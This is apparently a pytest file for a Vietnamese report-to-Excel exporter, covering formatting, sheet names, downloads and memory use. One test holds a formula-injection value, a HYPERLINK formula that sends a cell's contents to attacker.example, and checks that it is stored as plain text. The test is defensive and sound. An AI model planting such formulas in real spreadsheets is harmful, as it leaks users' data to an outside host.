import datetime
import gc
import io
import tracemalloc
from decimal import Decimal

import openpyxl

from projects.reports import Column, Table, excel


def sample_table(**extra) -> Table:
    return Table(
        "by_source",
        "Kinh phí theo nguồn",
        [
            Column("label", "Nguồn kinh phí", "text"),
            Column("projects", "Số đề án"),
            Column("approved", "Đã phê duyệt", "money"),
            Column("percent", "Tỷ lệ hoàn thành", "percent"),
        ],
        [
            ["Khuyến công địa phương", 3, 560_000_000, Decimal("56.00")],
            ["Khuyến công quốc gia", 1, 600_000_000, None],
        ],
        ["Tổng cộng", 4, 1_160_000_000, Decimal("38.67")],
        **extra,
    )


def read(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def test_it_writes_a_title_row_with_the_period_and_the_date_produced():
    wb = read(
        excel.workbook(
            heading="Báo cáo kết quả hoạt động khuyến công năm 2024",
            period="Năm 2024 · Toàn tỉnh",
            tables=[sample_table()],
            produced=datetime.date(2025, 1, 15),
        )
    )
    ws = wb["Kinh phí theo nguồn"]
    title = ws.cell(row=excel.TITLE_ROW, column=1)
    assert title.value == "Báo cáo kết quả hoạt động khuyến công năm 2024 – Năm 2024 · Toàn tỉnh"
    assert title.font.bold
    assert "Ngày lập: 15/01/2025" in ws.cell(row=excel.TITLE_ROW + 1, column=1).value
    assert "A5:D5" in {str(r) for r in ws.merged_cells.ranges}


def test_it_writes_vietnamese_headers_and_freezes_them():
    ws = read(
        excel.workbook(
            heading="B", period="P", tables=[sample_table()], produced=datetime.date(2025, 1, 1)
        )
    ).active
    header = [c.value for c in ws[excel.HEADER_ROW]]
    assert header == ["Nguồn kinh phí", "Số đề án", "Đã phê duyệt (đồng)", "Tỷ lệ hoàn thành"]
    assert ws.freeze_panes == f"B{excel.HEADER_ROW + 1}"


def test_it_writes_money_as_numbers_formatted_in_dong():
    ws = read(
        excel.workbook(
            heading="B", period="P", tables=[sample_table()], produced=datetime.date(2025, 1, 1)
        )
    ).active
    first = excel.HEADER_ROW + 1
    money = ws.cell(row=first, column=3)
    assert money.value == 560_000_000 and isinstance(money.value, int)
    assert money.number_format == "#,##0"
    assert ws.cell(row=first, column=2).number_format == "#,##0"
    percent = ws.cell(row=first, column=4)
    # A fraction with a percent format: sums and products in the sheet come out right.
    assert percent.value == 0.56 and percent.number_format == "0.00%"
    assert ws.cell(row=first + 1, column=4).value is None
    total = [c.value for c in ws[first + 2]]
    assert total == ["Tổng cộng", 4, 1_160_000_000, 0.3867]
    assert ws.cell(row=first + 2, column=1).font.bold


def test_it_sizes_columns_to_their_content():
    ws = read(
        excel.workbook(
            heading="B", period="P", tables=[sample_table()], produced=datetime.date(2025, 1, 1)
        )
    ).active
    widths = {k: ws.column_dimensions[k].width for k in "ABCD"}
    assert widths["A"] >= len("Khuyến công địa phương")
    assert widths["C"] >= len("1,160,000,000")
    assert all(8 <= w <= 62 for w in widths.values())


def test_it_names_one_sheet_per_table_within_excel_limits():
    long = sample_table()
    long.title = "Kết quả đạt được theo nội dung khuyến công: chi tiết/tháng"
    wb = read(
        excel.workbook(
            heading="B",
            period="P",
            tables=[sample_table(), sample_table(), long],
            produced=datetime.date(2025, 1, 1),
        )
    )
    assert wb.sheetnames[:2] == ["Kinh phí theo nguồn", "Kinh phí theo nguồn (2)"]
    # Cut after a whole word, not at the 31st character ("… nội dung khu").
    assert wb.sheetnames[2] == "Kết quả đạt được theo nội dung"


def test_its_response_is_an_xlsx_attachment():
    class Report:
        heading = "Danh mục đề án khuyến công"
        period = "Năm 2024"

        def tables(self):
            return [sample_table()]

    response = excel.response(
        Report(), filename="danh-mục đề án", produced=datetime.date(2025, 1, 2)
    )
    assert response["Content-Type"] == excel.XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="danh-muc-de-an-20250102.xlsx"'
    content = b"".join(response.streaming_content)
    assert (
        read(content).active.cell(row=excel.TITLE_ROW, column=1).value.startswith("Danh mục đề án")
    )


def test_a_name_that_looks_like_a_formula_stays_text_in_every_report_file():
    leak = '=HYPERLINK("http://attacker.example/?leak="&B5,"Xem")'
    table = sample_table()
    table.rows[0][0] = leak
    table.rows[1][0] = "@SUM(1+1)"
    book = read(
        excel.workbook(
            heading="Báo cáo",
            period="Năm 2026",
            tables=[table],
            produced=datetime.date(2026, 12, 1),
        )
    )
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    written = {c.value: c for c in cells if isinstance(c.value, str)}
    assert written[leak].quotePrefix and written["@SUM(1+1)"].quotePrefix


def test_it_writes_years_as_numbers_and_percents_as_fractions():
    table = Table(
        "by_year",
        "Số cơ sở và lao động theo năm",
        [
            Column("year", "Năm", "year"),
            Column("workers", "Số lao động"),
            Column("growth", "Tốc độ tăng", "percent"),
        ],
        [[2023, 7_039, Decimal("13.70")], [2024, 9_000, Decimal("-2.05")]],
    )
    ws = read(
        excel.workbook(heading="B", period="P", tables=[table], produced=datetime.date(2025, 1, 1))
    ).active
    first = excel.HEADER_ROW + 1
    years = [ws.cell(row=r, column=1) for r in (first, first + 1)]
    assert [c.value for c in years] == [2023, 2024]
    assert all(c.data_type == "n" and c.number_format == "0" for c in years)
    growth = [ws.cell(row=r, column=3) for r in (first, first + 1)]
    assert [c.value for c in growth] == [0.137, -0.0205]
    assert all(c.number_format == "0.00%" for c in growth)


def test_a_streamed_table_is_written_whole_and_sized_by_its_first_rows():
    rows = ([f"Đề án {n}", n * 1_000] for n in range(1, 1201))
    table = Table(
        "register",
        "Danh mục",
        [Column("label", "Tên", "text"), Column("amount", "Kinh phí", "money")],
        rows,
        ["Tổng cộng", sum(n * 1_000 for n in range(1, 1201))],
    )
    ws = read(
        excel.workbook(heading="B", period="P", tables=[table], produced=datetime.date(2025, 1, 1))
    ).active
    body = list(ws.iter_rows(min_row=excel.HEADER_ROW + 1, values_only=True))
    assert len(body) == 1200 + 1
    assert body[0] == ("Đề án 1", 1_000) and body[1199] == ("Đề án 1200", 1_200_000)
    assert ws.column_dimensions["B"].width >= len("720,600,000")


def _peak_bytes(rows: int) -> int:
    """Peak memory (tracemalloc) of writing a report table of `rows` streamed rows."""
    table = Table(
        "register",
        "Danh mục đề án",
        [
            Column("code", "Mã", "text"),
            Column("title", "Tên đề án", "text"),
            Column("year", "Năm", "year"),
            Column("amount", "Kinh phí", "money"),
            Column("percent", "Tỷ lệ", "percent"),
        ],
        (
            [
                f"DA-{n:06d}",
                f"Đề án hỗ trợ máy móc thiết bị số {n}",
                2024,
                n * 1_000,
                Decimal(n % 100),
            ]
            for n in range(rows)
        ),
        ["Tổng cộng", "", "", 0, None],
    )
    gc.collect()
    tracemalloc.start()
    try:
        excel.workbook(heading="B", period="P", tables=[table], produced=datetime.date(2025, 1, 1))
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_its_memory_does_not_grow_with_the_number_of_rows():
    # The rows go to a temporary file as they are written; only the saved file's bytes (a few
    # kB per thousand rows, returned by `workbook`) grow. An in-memory sheet holds every cell
    # as an object: four times the rows would take about four times the memory.
    _peak_bytes(500)  # warm-up: imports, translations
    small, large = _peak_bytes(2_000), _peak_bytes(8_000)
    assert large < 1.5 * small, (small, large)
